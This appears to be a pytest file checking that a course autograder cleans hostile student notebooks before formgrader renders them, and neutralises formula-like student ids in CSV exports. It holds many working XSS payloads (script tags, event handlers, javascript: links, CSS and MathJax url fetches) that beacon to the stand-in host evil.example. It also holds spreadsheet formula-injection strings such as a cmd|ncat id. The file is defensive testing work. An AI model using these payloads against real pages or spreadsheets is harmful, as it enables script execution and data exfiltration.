"""Every byte a student controls, on every page and in every file that shows it (issue 15).

A small class of assignment 01 (blank notebooks, which grade fast) is graded by
`d2lcourse grade`: a hostile student whose notebook carries attacks of every kind in every field (cells,
outputs of each MIME type, attachments, metadata), and students whose ids are
spreadsheet formulas. Formgrader's own view of the autograded notebook is rendered as
formgrader renders it (the HTMLExporter of nbgrader's formgrader, set up on the course as
its server extension does) and opened in Chromium, served with formgrader's scripts; every
attack, and any fetch from another host (MathJax's CDN too), reports to a local server.
The same attacks on the submitted notebook, uncleaned, show that they would run.
"""
import csv
import html
import http.server
import inspect
import io
import json
import re
import subprocess
import sys
import threading
import urllib.parse
from pathlib import Path

import nbformat
import pytest

import d2lcourse
from d2lcourse import autograder, cli
from d2lcourse.autograder import pages, reports, samples
from d2lcourse.autograder.evaluate import TestCell
from d2lcourse.model import TestResult, Verdict
from d2lcourse.autograder.grade import Recorder, unstorable
from d2lcourse.autograder.nbgrader_plugin import NeutralisedCsvExport
from d2lcourse.autograder.pages import safe_html, sanitize_cell, sanitize_notebook
from d2lcourse.autograder.sandbox import bubblewrap_problem
from d2lcourse.course import ASSIGNMENTS
from d2lcourse.notebooks import grade_id, is_test_cell, read
from test_pages import (MARK, POLICY_META, STUDENT_TEX, assert_nothing_executable, chromium,
                        png, typeset_math)

pytestmark = pytest.mark.skipif(bubblewrap_problem() is not None,
                                reason="bubblewrap cannot run here")

ASSIGNMENT = ASSIGNMENTS["01_ndarray_autograd"]
NOTEBOOK = Path(ASSIGNMENT.notebook).stem
EVIL = "evil.example"  # every host name leads to the local server
CHROMIUMS_OWN = "EXCLUDE *.google.com, EXCLUDE *.googleapis.com"  # its clock and updates
# Student ids that a spreadsheet would run as formulas (nbgrader takes each as an id).
FORMULA_IDS = ("=HYPERLINK(CONCATENATE(A1;B1);C1)", "+cmd|ncat evil.example 80!A0", "-2+3",
               "@SUM(1)", "\uff1d1+1", "\u22121+1")


def leak(name):
    """A URL that reports `name` to the local server when anything fetches it."""
    return f"http://{EVIL}/leak/{name}"


def beacon(name):
    """JavaScript that marks the page and reports `name` if it ever runs."""
    return (f"document.title='{MARK}-{name}';new Image().src='{leak(name)}'")


def attack_markup():
    """HTML and TeX that run script or load something, each in its own way."""
    return "\n\n".join([
        f"<script>{beacon('script')}</script>",
        f"<img src=x onerror=\"{beacon('img-onerror')}\">",
        f"<svg onload=\"{beacon('svg-onload')}\"><circle r=5 /></svg>",
        f"<details open ontoggle=\"{beacon('details-ontoggle')}\"><summary>s</summary></details>",
        f"<iframe srcdoc=\"<script>parent.{beacon('iframe-srcdoc')}</script>\"></iframe>",
        f"<a id=jslink href=\"javascript:{beacon('javascript-link')}\">link</a>",
        f"<a id=datalink href=\"data:text/html,<script>{beacon('data-link')}</script>\">d</a>",
        f"<style>@import url({leak('style-import')}); body {{background: url({leak('css')})}}"
        "</style>",
        f"<link rel=stylesheet href=\"{leak('link-stylesheet')}\">",
        f"<div style=\"background-image: url({leak('style-attribute')})\">styled</div>",
        f"<meta http-equiv=refresh content=\"0; url={leak('meta-refresh')}\">",
        f"<base href=\"http://{EVIL}/leak/base/\"><img src=\"relative.png\">",
        f"<form id=form action=\"{leak('form-action')}\"><button>send</button></form>",
        f"<input autofocus onfocus=\"{beacon('autofocus')}\">",
        f"<img src=\"{leak('remote-image')}\">",
        f"<object data=\"{leak('object')}\"></object><embed src=\"{leak('embed')}\">",
        f"<video><source onerror=\"{beacon('video-source')}\"></video>",
        f"<p class=\"tex2jax_process full-credit\">$\\style{{background-image: url("
        f"{leak('tex-style')})}}{{x}}$</p>",
        f"$\\bbox[background-image: url({leak('tex-bbox')})]{{y}}$",
        f"$\\href{{javascript:{beacon('tex-href')}}}{{z}}$",
        f"$\\h&#114;ef{{{leak('tex-entity')}}}{{w}}$ and $\\require{{{leak('tex-require')}}}$",
        "$\\class{x}{\\cssId{notebook}{v}}$ $\\unicode{x1F600}$",
    ])


def hostile_notebook(release):
    """The release with attacks in every field a viewer might show."""
    notebook = nbformat.read(str(release), 4)
    markdown = nbformat.v4.new_markdown_cell(
        attack_markup() + "\n\n![a](attachment:page.html) ![b](attachment:evil.svg)",
        attachments={"page.html": {"text/html": f"<script>{beacon('attachment-html')}</script>"},
                     "evil.svg": {"image/svg+xml": f"<svg onload=\"{beacon('attachment-svg')}\"/>"}})
    markdown.metadata = {"tags": [f"x\"><img src=x onerror=\"{beacon('tag')}\">"],
                         "jupyter": {"source_hidden": False}, "title": f"<b>{MARK}</b>"}
    outputs = nbformat.v4.new_code_cell("show()", execution_count=2)
    markup = attack_markup()
    widget = {"model_id": "1", "version_major": 2, "version_minor": 0}
    outputs.outputs = [
        nbformat.v4.new_output("display_data", data={"text/markdown": markup}),
        nbformat.v4.new_output("display_data", data={"text/html": markup}),
        nbformat.v4.new_output("display_data", data={"text/html": markup},
                               metadata={"text/html": {"isolated": True}}),
        nbformat.v4.new_output("display_data", data={
            "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{beacon('svg')}\">"
                             f"<image href='{leak('svg-image')}'/></svg>"}),
        nbformat.v4.new_output("display_data", data={"application/javascript": beacon("js")}),
        nbformat.v4.new_output("display_data", data={
            "application/vnd.jupyter.widget-view+json": widget, "text/plain": "a widget"}),
        nbformat.v4.new_output("display_data", data={
            "text/latex": f"$\\style{{background: url({leak('latex')})}}{{x}}$"}),
        nbformat.v4.new_output("display_data", data={
            "text/vnd.mermaid": f"graph TD; A-->B; click A \"{leak('mermaid')}\"",
            "application/x-unknown": f"<script>{beacon('unknown')}</script>"}),
        nbformat.v4.new_output("display_data", data={"image/png": png()}, metadata={
            "filenames": {"image/png": leak("filenames")}}),
        nbformat.v4.new_output("execute_result", execution_count=2, data={
            "image/jpeg": f"\"><img src=x onerror=\"{beacon('jpeg')}\">",
            "text/plain": "<script>shown as text</script>"}),
    ]
    raw = nbformat.v4.new_raw_cell(markup, metadata={"raw_mimetype": "text/html"})
    formula = nbformat.v4.new_markdown_cell(f"My formula: ${STUDENT_TEX}$")
    notebook.cells[1:1] = [formula, markdown, outputs, raw]
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {"1": {
            "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
            "model_module_version": "2.0.0", "state": {"value": markup}}}}}
    notebook.metadata["title"] = f"<script>{beacon('title')}</script>"
    return notebook


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """The class graded by `d2lcourse grade`; returns the course folder."""
    course = samples.copy_course(tmp_path_factory.mktemp("bytes") / "course", [ASSIGNMENT.id])
    Recorder(course, ASSIGNMENT).ensure_assignment()
    for student in ("plain", "hostile") + FORMULA_IDS:
        samples.write_submission(course, ASSIGNMENT, student, {})
    hostile = course / "submitted" / "hostile" / ASSIGNMENT.id / ASSIGNMENT.notebook
    nbformat.write(hostile_notebook(samples.release_path(course, ASSIGNMENT)), str(hostile))
    assert cli.main(["grade", ASSIGNMENT.id, "--course", str(course)]) == 0
    return course


# --------------------------------------------------------------------------- formgrader

class Witness(http.server.BaseHTTPRequestHandler):
    """Serves formgrader's pages and static files; every other request is a leak."""

    def do_GET(self):
        path = urllib.parse.urlsplit(self.path).path
        if self.headers.get("Host") != self.server.own_host or path.startswith("/leak/"):
            self.server.leaks.append(f"{self.headers.get('Host')}{path}")
        elif path in self.server.pages:
            return self.reply(200, "text/html", self.server.pages[path].encode())
        elif path.startswith("/formgrader/static/"):
            from nbgrader.server_extensions.formgrader import handlers
            file = (handlers.static_path + path[len("/formgrader/static"):])
            if ".." not in path and re.fullmatch(r"[\w./@-]+", path):
                try:
                    with open(file, "rb") as stream:
                        kind = "text/css" if file.endswith(".css") else "text/javascript"
                        return self.reply(200, kind, stream.read())
                except OSError:
                    pass
        self.reply(404, "text/plain", b"")

    do_POST = do_PUT = do_GET

    def reply(self, status, kind, body):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def send_error(self, code, message=None, explain=None):  # e.g. a TLS hello: a leak too
        self.server.leaks.append(f"malformed request ({code})")
        super().send_error(code, message, explain)

    def log_message(self, format, *arguments):
        pass


@pytest.fixture(scope="module")
def witness():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Witness)
    server.own_host = f"127.0.0.1:{server.server_address[1]}"
    server.pages, server.leaks = {}, []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def formgrader_page(course, notebook_path, student):
    """The page formgrader serves for a submission: the HTMLExporter of nbgrader's
    `FormgradeExtension`, initialised on the course as formgrader does when it is pointed
    at a course folder (handlers.FormgraderHandler)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension
    from traitlets.config import Config
    formgrader = FormgradeExtension(config=Config())
    formgrader.load_cwd_config = False
    formgrader.config_dir = str(course)
    formgrader.initialize([], root=str(course))
    resources = {"assignment_id": ASSIGNMENT.id, "notebook_id": NOTEBOOK,
                 "submission_id": "0123456789abcdef", "index": 0, "total": 1, "base_url": "",
                 "student": student, "last_name": None, "first_name": None,
                 "notebook_path": f"course/autograded/{student}/{ASSIGNMENT.id}/{NOTEBOOK}.ipynb"}
    page, _ = HTMLExporter(config=formgrader.config).from_filename(str(notebook_path),
                                                                  resources=resources)
    return page


def open_in_chromium(server, name, page, folder):
    """The DOM of `page`, served by `server`, once its scripts and MathJax are done, and
    the leaks it caused."""
    server.pages[f"/{name}.html"] = page
    del server.leaks[:]
    dom = chromium(f"http://{server.own_host}/{name}.html",
                   f"--host-resolver-rules=MAP * {server.own_host}, {CHROMIUMS_OWN}",
                   "--dump-dom", "--virtual-time-budget=10000",
                   profile=folder / f"profile-{name}").stdout
    return dom, sorted(set(server.leaks))


def student_part(page):
    """The notebook's cells in formgrader's page (the rest is nbgrader's own markup)."""
    return page.split('id="notebook-container"')[1].split('<div class="help">')[0]


def test_formgraders_view_of_the_autograded_notebook_runs_and_loads_nothing(
        course, witness, tmp_path):
    submitted = course / "submitted" / "hostile" / ASSIGNMENT.id / ASSIGNMENT.notebook
    autograded = course / "autograded" / "hostile" / ASSIGNMENT.id / ASSIGNMENT.notebook
    assert autograded.is_file()

    _, stock_leaks = open_in_chromium(
        witness, "stock", formgrader_page(course, submitted, "hostile"), tmp_path)
    names = {leak.rsplit("/leak/", 1)[1] for leak in stock_leaks if "/leak/" in leak}
    # The attacks work: uncleaned, formgrader runs the student's scripts and TeX.
    assert {"script", "img-onerror", "js", "remote-image", "filenames"} <= names, stock_leaks

    page = formgrader_page(course, autograded, "hostile")
    assert_nothing_executable(student_part(page))
    dom, leaks = open_in_chromium(witness, "autograded", page, tmp_path)
    assert leaks == []
    assert MARK.replace("' + '", "") not in dom
    assert f"<title>{NOTEBOOK}</title>" in dom
    assert (STUDENT_TEX, True) in typeset_math(dom)  # offline, MathJax typeset the student's math
    assert "&lt;script&gt;" in dom  # the attempt is shown as text
    assert "(not shown: " in dom and "application/javascript" in dom


def test_our_feedback_page_runs_and_loads_nothing_even_without_its_policy(
        course, witness, tmp_path):
    page = (course / "feedback" / "hostile" / ASSIGNMENT.id / f"{NOTEBOOK}.html").read_text()
    assert POLICY_META.search(page)
    dom, leaks = open_in_chromium(witness, "feedback", POLICY_META.sub("", page), tmp_path)
    assert leaks == []
    assert MARK.replace("' + '", "") not in dom
    assert (STUDENT_TEX, True) in typeset_math(dom)


def test_the_autograded_notebook_keeps_nothing_a_viewer_could_run(course):
    autograded = nbformat.read(str(course / "autograded" / "hostile" / ASSIGNMENT.id /
                                   ASSIGNMENT.notebook), 4)
    assert autograded.metadata.d2lcourse.status == "ok"  # graded, not rejected
    assert [cell for cell in autograded.cells if "My formula" in cell.source]
    assert set(autograded.metadata) <= {"kernelspec", "language_info", "d2lcourse"}
    mimes = {mime for cell in autograded.cells if cell.cell_type == "code"
             for output in cell.outputs for mime in output.get("data", {})}
    assert mimes <= {"text/plain", "text/html", "text/latex", "image/png"}, mimes
    for cell in autograded.cells:
        assert set(cell.metadata) <= {"nbgrader", "tags", "raw_mimetype"}, cell.metadata
        assert not cell.get("attachments")
        for output in cell.get("outputs", []):
            assert set(output.get("metadata", {})) <= {"image/png"}, output.metadata
            assert_nothing_executable(output.get("data", {}).get("text/html", ""))
        if cell.cell_type != "code" and "grade_id" not in cell.metadata.get("nbgrader", {}):
            assert_nothing_executable(cell.source)
            assert "\\href" not in cell.source and "\\style" not in cell.source


def test_tex_commands_that_set_links_or_styles_are_broken_however_spelled():
    for tex in (r"\href{javascript:x}{y}", r"\h&#114;ef{x}{y}", r"&#92;style{x}{y}",
                r"&#x5c;class{x}{y}", r"&bsol;cssId{a}{b}", r"\bbox[url(x)]{y}",
                r"\require{x}", r"\unicode{x}", r"\htmlStyle{x}{y}", r"\data{x}{y}"):
        cleaned = html.unescape(safe_html(f"<p>${tex}$</p>"))
        assert not re.search(r"\\(href|style|class|cssId|bbox|require|unicode|html|data)",
                             cleaned), (tex, cleaned)
    kept = r"\frac{a}{b} + \hbar \stylish \classic"  # other commands, and longer names
    assert html.unescape(safe_html(f"<p>${kept}$</p>")) == f"<p>${kept}$</p>"


def test_markdown_outputs_and_cells_of_any_kind_become_cleaned_html():
    cell = nbformat.from_dict({"cell_type": "code", "source": "", "metadata": {},
                               "execution_count": None, "outputs": [{
                                   "output_type": "display_data", "metadata": {},
                                   "data": {"text/markdown": "**bold** <script>x</script>"}}]})
    sanitize_cell(cell)
    assert cell.outputs[0].data == {"text/html": "<p><strong>bold</strong> "
                                                 "&lt;script&gt;x&lt;/script&gt;</p>\n"}
    raw = nbformat.from_dict({"cell_type": "raw", "metadata": {"format": "text/html"},
                              "source": "<b>a</b>\n\n<script>x</script>"})
    sanitize_cell(raw)
    assert raw.source == "<div><b>a</b>&#10;&#10;&lt;script&gt;x&lt;/script&gt;</div>"
    assert raw.metadata == {"raw_mimetype": "text/html"}


def test_only_a_locked_cell_with_a_gradebook_id_is_left_as_the_instructors():
    """nbgrader puts the instructor's source back in those; any other cell is the
    student's, whatever its metadata claims."""
    script = "<script>x</script>"
    claims = ({"locked": True, "solution": False, "grade": False},  # no grade_id
              {"locked": True, "grade_id": 'a"><b', "solution": False, "grade": False},
              {"locked": False, "grade_id": "answer", "solution": True, "grade": False})
    for nbgrader in claims:
        cell = nbformat.from_dict({"cell_type": "markdown", "source": script,
                                   "metadata": {"nbgrader": nbgrader}})
        sanitize_cell(cell)
        assert cell.source.startswith("<div>&lt;script&gt;x&lt;/script&gt;"), nbgrader
        kept = nbgrader.get("grade_id") == "answer"  # formgrader grades that cell by it
        assert cell.metadata.get("nbgrader") == (nbgrader if kept else None)
    instructors = nbformat.from_dict({"cell_type": "markdown", "source": "# $x$", "metadata": {
        "nbgrader": {"locked": True, "grade_id": "intro", "solution": False, "grade": False}}})
    sanitize_cell(instructors)
    assert instructors.source == "# $x$"


def test_fields_of_the_wrong_json_type_are_dropped_never_an_error():
    notebook = nbformat.from_dict({"metadata": {"kernelspec": "python", "language_info": 3,
                                                "widgets": [1]}, "cells": [
        {"cell_type": "markdown", "metadata": ["x"], "source": ["a ", "*b*"],
         "attachments": ["plot.png"]},
        {"cell_type": "markdown", "metadata": {"tags": "one", "nbgrader": 7}, "source": "c"},
        {"cell_type": "code", "metadata": {}, "source": "", "execution_count": "three",
         "outputs": {"output_type": "stream"}},
        {"cell_type": "code", "metadata": {}, "source": "", "execution_count": 1, "outputs": [
            5, {"output_type": "stream", "name": "stdout", "text": ["a", 5]},
            {"output_type": "error", "ename": 1, "evalue": None, "traceback": "line"},
            {"output_type": "display_data", "data": ["text/plain"], "metadata": 3},
            {"output_type": "execute_result", "execution_count": 2, "metadata": {
                "image/png": "wide"}, "data": {"text/plain": ["a", 5], "text/html": ["<b>", "x"]}}]}]})
    sanitize_notebook(notebook)
    assert notebook.metadata == {}
    first, second, empty, outputs = notebook.cells
    assert first.source == "<div><p>a <em>b</em></p>&#10;</div>" and first.metadata == {}
    assert first.attachments == {} and second.metadata == {}
    assert empty.execution_count is None and empty.outputs == []
    assert [output.output_type for output in outputs.outputs] == [
        "stream", "error", "execute_result", "display_data"]
    assert outputs.outputs[0].text == "" and outputs.outputs[1].traceback == []
    assert outputs.outputs[2].data == {"text/html": "<b>x</b>"}
    assert outputs.outputs[2].metadata == {}
    assert "text/plain" in outputs.outputs[3].data["text/plain"]  # the note


def test_an_image_must_be_the_image_it_claims_to_be():
    real = png()
    cell = nbformat.from_dict({"cell_type": "code", "source": "", "metadata": {},
                               "execution_count": None, "outputs": [
                                   {"output_type": "display_data", "metadata": {},
                                    "data": {"image/png": real}},
                                   {"output_type": "display_data", "metadata": {},
                                    "data": {"image/jpeg": real, "image/gif": "R0lGODlh"}}]})
    sanitize_cell(cell)
    assert cell.outputs[0].data == {"image/png": real}
    assert cell.outputs[1].data == {"image/gif": "R0lGODlh"}  # GIF89a's base64
    assert "image/jpeg" in cell.outputs[2].data["text/plain"]  # a PNG called a JPEG


def test_an_id_that_formgrader_would_show_as_markup_is_refused_with_its_fix():
    for student in (f"<img src=x onerror={MARK}>", 'a" onmouseover="x', "x'y", "a&lt;b"):
        message = unstorable(student)
        assert message.startswith(f"cannot grade submitted/{student}: ") and \
            message.endswith("rename the folder and rerun"), message
    assert unstorable("  =1+1").startswith("cannot grade submitted/  =1+1: nbgrader strips")
    assert not [student for student in FORMULA_IDS if unstorable(student)]


# --------------------------------------------------------------------------- CSV

def original(field):
    """How report.html says to read a student id in grades.csv."""
    return field[1:] if field.startswith("'") and reports.FORMULA_START.match(field[1:]) else field


def test_formula_ids_are_text_in_grades_csv_and_points_stay_numbers(course):
    path = course / "reports" / ASSIGNMENT.id / "grades.csv"
    with open(path, newline="") as stream:
        header, *rows = list(csv.reader(stream, quoting=csv.QUOTE_NONNUMERIC))
    tests = [grade_id(c) for c in read(ASSIGNMENT.source_path(course)).cells if is_test_cell(c)]
    assert header == ["student_id", "status", *tests, "total", "max_total",
                      *reports.LATE_COLUMNS]
    by_id = {original(row[0]): row for row in rows}
    assert set(by_id) == {"plain", "hostile", *FORMULA_IDS}
    plain = by_id["plain"]
    assert plain[0] == "plain" and plain[1] == "ok"
    assert all(type(value) is float for value in plain[2:])  # unquoted: numbers
    lines = path.read_text().splitlines()
    rest = next(line for line in lines if line.startswith('"plain",'))[len('"plain"'):]
    for student in FORMULA_IDS:  # quoted, so a separator in an id stays in its field
        assert by_id[student] == ["'" + student] + plain[1:]
        assert f'"\'{student}"{rest}' in lines
    report = (course / "reports" / ASSIGNMENT.id / "report.html").read_text()
    assert html.escape(reports.CSV_NOTE) in report


def test_nbgrader_export_of_the_course_neutralises_formulas_too(course, tmp_path):
    path = tmp_path / "export.csv"
    subprocess.run([str(Path(sys.executable).with_name("nbgrader")), "export", "--to",
                    str(path)], cwd=course, check=True, capture_output=True, timeout=300)
    with open(path, newline="") as stream:
        header, *rows = list(csv.reader(stream, quoting=csv.QUOTE_NONNUMERIC))
    assert header == NeutralisedCsvExport.COLUMNS
    ids = [row[header.index("student_id")] for row in rows]
    assert sorted(map(original, ids)) == sorted(["plain", "hostile", *FORMULA_IDS])
    assert {"'" + student for student in FORMULA_IDS} <= set(ids)
    for name in ("raw_score", "late_submission_penalty", "score", "max_score"):
        assert all(type(row[header.index(name)]) is float for row in rows)


def test_every_formula_start_is_neutralised_in_every_text_field(tmp_path):
    """Ids nbgrader refuses (tabs, carriage returns) and messages, through the writer."""
    tests = [TestCell("test_a", "", 1.0)]
    hostile = ("\t=1+1", "\r=1+1", " \t@A1", "=1", "+1", "-1", "@1")
    verdicts = {student: Verdict("ok", "", [TestResult("test_a", "a", 1.0, 1.0, "")])
                for student in hostile}
    verdicts["plain"] = Verdict("crashed", "=cmd|x", [TestResult("test_a", "a", 0.0, 1.0, "")])
    reports.write(tmp_path, ASSIGNMENT, tests, verdicts, False, io.StringIO())
    with open(tmp_path / "reports" / ASSIGNMENT.id / "grades.csv", newline="") as stream:
        rows = list(csv.reader(stream, quoting=csv.QUOTE_NONNUMERIC))[1:]
    ids = {row[0] for row in rows}
    assert ids == {"'" + student for student in hostile} | {"plain"}
    assert all(type(value) is float for row in rows for value in row[2:])
    assert reports.spreadsheet_cell(-2.5) == -2.5 and reports.spreadsheet_cell(3) == 3
    assert json.dumps(reports.spreadsheet_cell("ok")) == '"ok"'


def test_every_csv_file_is_written_by_the_one_neutralising_writer():
    """No csv writer in the package but `reports.write_csv`."""
    writer = inspect.getsource(reports.write_csv)
    for package in (d2lcourse, autograder):
        for path in Path(package.__file__).parent.rglob("*.py"):
            text = path.read_text()
            if path.resolve() == Path(reports.__file__).resolve():
                text = text.replace(writer, "")
            assert not re.search(r"csv\.(writer|DictWriter)\b|\.writerows?\(", text), path


def test_html_too_deep_or_too_large_to_clean_cheaply_is_shown_as_text():
    """The HTML parser's time grows with depth and size: such HTML is escaped instead (a
    linear pass), so no notebook costs the grader minutes of cleaning."""
    deep = "<div>" * 20000 + "<script>alert(1)</script>"
    assert pages.nesting(deep) == 20001
    shown = pages.safe_html(deep)
    assert shown.startswith("<p>(shown as text: HTML nested more than")
    assert "<script>" not in shown and "<div>" not in shown
    table = "<table><tr><td>x</td></tr></table>"
    assert pages.safe_html(table * 100).count("<table>") == 100
    with pages.cleaning_budget(len(table) * 150):
        kept = [pages.safe_html(table * 100), pages.safe_html(table * 100)]
    assert kept[0].count("<table>") == 100 and "shown as text" in kept[1]
    assert pages.safe_html(table * 100).count("<table>") == 100   # outside, no budget
